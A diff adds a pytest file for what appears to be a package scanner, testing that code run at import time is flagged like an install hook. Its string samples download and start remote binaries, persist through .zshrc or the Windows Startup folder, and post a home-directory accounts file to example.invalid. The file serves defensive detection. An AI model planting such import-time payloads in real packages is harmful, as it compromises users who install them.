@@ -1,0 +1,196 @@
+"""Package code that importing the package runs (its top level, the functions that names, a
+thread's target) judged like an install hook for the techniques no library's import does:
+downloading and starting a program, writing where the shell or the system runs it again,
+posting a file's contents. The same code in a function nobody calls on import, or under
+`if __name__ == "__main__":`, stays a warning at most: libraries offer such functions.
+
+Every sample is a minimal harmless reconstruction: it is scanned, never installed, imported or
+run, and its addresses are reserved ones (example.invalid, 192.0.2.0/24).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from safepip.checks.hooks.python import idle_lines
+from safepip.checks.install_hooks import InstallHookCheck, scan_path
+from safepip.findings import Finding, Severity
+from tests.checks.hostile import make_sdist, make_wheel
+
+
+@dataclass(frozen=True)
+class Sample:
+    """One package module's code and the rule that must block it when the import runs it."""
+
+    name: str
+    code: str
+    rule: str
+
+
+_FETCH_AND_START = (
+    "import os, subprocess, tempfile, urllib.request\n"
+    "def _update(url):\n"
+    "    target = os.path.join(tempfile.gettempdir(), 'helper.bin')\n"
+    "    urllib.request.urlretrieve(url, target)\n"
+    "    subprocess.Popen([target])\n"
+)
+_URL = "'https://example.invalid/helper.bin'"
+
+RUN_BY_IMPORT = (
+    Sample("download-and-start-from-the-top-level",
+           f"{_FETCH_AND_START}_update({_URL})\n", "hook/download-exec"),
+    Sample("download-and-start-in-a-thread",
+           "import threading\n"
+           f"{_FETCH_AND_START}"
+           f"threading.Thread(target=_update, args=({_URL},), daemon=True).start()\n",
+           "hook/download-exec"),
+    Sample("download-and-start-in-a-timer-from-a-class-body",
+           "import threading\n"
+           f"{_FETCH_AND_START}"
+           f"class Client:\n    _timer = threading.Timer(5, _update, ({_URL},))\n"
+           "    _timer.start()\n",
+           "hook/download-exec"),
+    Sample("fetched-code-written-and-run-through-a-requests-helper",
+           "import os, subprocess, requests\n"
+           "def _get(url):\n    return requests.get(url).content\n"
+           "def _setup():\n"
+           "    path = os.path.join(os.path.expanduser('~'), '.cache', 'helper.py')\n"
+           "    with open(path, 'wb') as out:\n"
+           "        out.write(_get('http://192.0.2.7/helper.py'))\n"
+           "    subprocess.Popen(['pythonw', path])\n"
+           "_setup()\n",
+           "hook/download-exec"),
+    Sample("shell-profile-extended-from-the-top-level",
+           "from pathlib import Path\n"
+           "def _remember():\n"
+           "    with open(Path.home() / '.zshrc', 'a') as rc:\n"
+           "        rc.write('\\nexport DEMO=1\\n')\n"
+           "_remember()\n",
+           "hook/persistence"),
+    Sample("startup-folder-copy-on-import",
+           "import os, shutil\n"
+           "_folder = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows',\n"
+           "                       'Start Menu', 'Programs', 'Startup')\n"
+           "shutil.copy(__file__, os.path.join(_folder, 'demo.pyw'))\n",
+           "hook/persistence"),
+    Sample("a-file-under-home-posted-on-import",
+           "import os, requests\n"
+           "def _sync():\n"
+           "    path = os.path.expanduser('~/.config/demo/accounts.json')\n"
+           "    with open(path, 'rb') as handle:\n"
+           "        requests.post('https://example.invalid/u', files={'f': handle.read()})\n"
+           "_sync()\n",
+           "hook/env-exfiltration"),
+)
+
+
+def _findings(tmp_path: Path, code: str, *, prefilter: bool = True) -> list[Finding]:
+    wheel = make_wheel(tmp_path, "demo", "1.0", {"demo/__init__.py": code})
+    return scan_path(wheel, check=InstallHookCheck(prefilter=prefilter))
+
+
+@pytest.mark.parametrize("sample", RUN_BY_IMPORT, ids=lambda s: s.name)
+def test_code_the_import_runs_is_blocked(sample: Sample, tmp_path: Path) -> None:
+    findings = _findings(tmp_path, sample.code)
+    blocking = [f for f in findings if f.severity >= Severity.HIGH]
+    assert any(f.rule == sample.rule for f in blocking), findings
+    assert all("(import time)" in f.message for f in blocking), blocking
+
+
+@pytest.mark.parametrize("sample", RUN_BY_IMPORT, ids=lambda s: s.name)
+def test_the_prefilter_lets_code_the_import_runs_through(sample: Sample, tmp_path: Path) -> None:
+    filtered = _findings(tmp_path, sample.code)
+    complete = _findings(tmp_path, sample.code, prefilter=False)
+    assert sorted(map(repr, filtered)) == sorted(map(repr, complete))
+
+
+@pytest.mark.parametrize("sample", RUN_BY_IMPORT, ids=lambda s: s.name)
+def test_the_same_code_in_an_sdist_is_judged_alike(sample: Sample, tmp_path: Path) -> None:
+    files = {"setup.py": "from setuptools import setup\nsetup(name='demo', version='1.0')\n",
+             "demo/__init__.py": sample.code}
+    findings = scan_path(make_sdist(tmp_path, "demo", "1.0", files))
+    assert max(f.severity for f in findings) >= Severity.HIGH, findings
+
+
+def _as_library(code: str) -> str:
+    """The sample's code after its imports, moved into a function nobody calls."""
+    lines = code.splitlines()
+    imports = [line for line in lines if line.startswith(("import ", "from "))]
+    rest = "".join(f"    {line}\n" for line in lines if line not in imports)
+    return "\n".join(imports) + "\ndef install_helper():\n" + rest
+
+
+@pytest.mark.parametrize("sample", RUN_BY_IMPORT, ids=lambda s: s.name)
+def test_the_same_code_offered_as_a_function_is_not_blocked(
+    sample: Sample, tmp_path: Path
+) -> None:
+    findings = _findings(tmp_path, _as_library(sample.code))
+    assert all(f.severity < Severity.HIGH for f in findings), findings
+
+
+def test_code_under_a_main_guard_is_not_run_by_the_import(tmp_path: Path) -> None:
+    code = (f"{_FETCH_AND_START}if __name__ == '__main__':\n    _update({_URL})\n")
+    findings = _findings(tmp_path, code)
+    assert all(f.severity < Severity.HIGH for f in findings), findings
+
+
+def test_the_else_of_a_main_guard_is_run_by_the_import(tmp_path: Path) -> None:
+    code = (f"{_FETCH_AND_START}if __name__ == '__main__':\n    pass\n"
+            f"else:\n    _update({_URL})\n")
+    findings = _findings(tmp_path, code)
+    assert max(f.severity for f in findings) >= Severity.HIGH, findings
+
+
+def test_idle_lines_follow_the_names_the_top_level_uses() -> None:
+    import ast
+
+    code = (
+        "import threading\n"               # 1
+        "def used():\n"                    # 2
+        "    helper()\n"                   # 3
+        "def helper():\n"                  # 4
+        "    pass\n"                       # 5
+        "def unused():\n"                  # 6
+        "    pass\n"                       # 7
+        "def target():\n"                  # 8
+        "    pass\n"                       # 9
+        "used()\n"                         # 10
+        "threading.Thread(target=target).start()\n"  # 11
+        "if __name__ == '__main__':\n"     # 12
+        "    unused()\n"                   # 13
+    )
+    assert idle_lines(ast.parse(code)) == {7, 13}
+
+
+def test_a_library_that_caches_under_home_on_import_is_not_blocked(tmp_path: Path) -> None:
+    """Writing a cache or config file under the home folder at import is what matplotlib and
+    friends do: not one of the techniques judged like an install hook."""
+    code = (
+        "import json, os\n"
+        "_CACHE = os.path.join(os.path.expanduser('~'), '.cache', 'demo', 'fonts.json')\n"
+        "os.makedirs(os.path.dirname(_CACHE), exist_ok=True)\n"
+        "with open(_CACHE, 'w') as handle:\n"
+        "    json.dump({'fonts': []}, handle)\n"
+    )
+    findings = _findings(tmp_path, code)
+    assert all(f.severity < Severity.HIGH for f in findings), findings
+
+
+def test_a_library_that_asks_git_for_its_version_on_import_is_not_blocked(
+    tmp_path: Path,
+) -> None:
+    code = (
+        "import subprocess\n"
+        "def _version():\n"
+        "    try:\n"
+        "        out = subprocess.check_output(['git', 'describe', '--tags'])\n"
+        "    except (OSError, subprocess.CalledProcessError):\n"
+        "        return '0'\n"
+        "    return out.decode().strip()\n"
+        "__version__ = _version()\n"
+    )
+    findings = _findings(tmp_path, code)
+    assert all(f.severity < Severity.MEDIUM for f in findings), findings
